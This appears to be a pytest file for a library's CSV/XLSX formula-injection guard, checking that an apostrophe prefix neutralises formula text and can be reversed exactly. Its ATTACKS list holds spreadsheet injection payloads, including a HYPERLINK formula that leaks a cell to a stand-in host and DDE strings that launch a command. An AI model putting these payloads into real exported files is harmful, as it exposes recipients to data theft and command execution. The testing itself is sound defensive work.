"""Formula injection: the one cell function every CSV/XLSX writer uses, and its inverse."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from wanzheng.data.cells import (
    FORMULA_TRIGGERS,
    restore_cell,
    safe_cell,
    safe_frame,
    save_workbook,
    write_csv,
    write_frame_csv,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A2,"详情")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "value", ["路灯不亮", "", "'引号开头", "a=1", " =1", -73.9, 5, None, "-73.9", "+86", "1e-3"]
)
def test_other_values_and_plain_numbers_unchanged(value: object) -> None:
    assert safe_cell(value) == value
    assert restore_cell(value) == value


def test_text_that_looks_neutralised_gets_one_more_apostrophe() -> None:
    # so that restore_cell is exact: the original "'=x" comes back, not "=x"
    assert safe_cell("'=x") == "''=x"
    assert restore_cell("''=x") == "'=x"
    assert restore_cell("'=x") == "=x"


@given(st.text(alphabet=st.sampled_from([*FORMULA_TRIGGERS, "'", "a", "1", ".", "诉"]), max_size=8))
def test_restore_inverts_safe_cell(text: str) -> None:
    out = safe_cell(text)
    assert restore_cell(out) == text
    assert not (isinstance(out, str) and out[:1] in FORMULA_TRIGGERS) or out == text


def test_frame_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": ["=1+1", "药店"], "lon": [-73.9, 116.3], "n": [1, 2]})
    out = safe_frame(frame)
    assert out["name"].tolist() == ["'=1+1", "药店"]
    assert out["lon"].tolist() == [-73.9, 116.3] and out["n"].dtype == frame["n"].dtype
    path = tmp_path / "t.csv"
    write_frame_csv(frame, path)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["name", "lon", "n"], ["'=1+1", "-73.9", "1"], ["药店", "116.3", "2"]]


def test_csv_and_workbook_writers(tmp_path: Path) -> None:
    path = tmp_path / "w.csv"
    write_csv(path, ["a", "b"], [["=1+1", 2.5], ["@x", None]])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh)) == [["a", "b"], ["'=1+1", "2.5"], ["'@x", ""]]
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["=1+1", -2, "ok"])
    assert ws["A1"].data_type == "f"  # what openpyxl makes of it unaided
    save_workbook(wb, tmp_path / "w.xlsx")
    back = openpyxl.load_workbook(tmp_path / "w.xlsx").active
    assert back is not None
    assert [c.value for c in back[1]] == ["'=1+1", -2, "ok"]
    assert [c.data_type for c in back[1]] == ["s", "n", "s"]
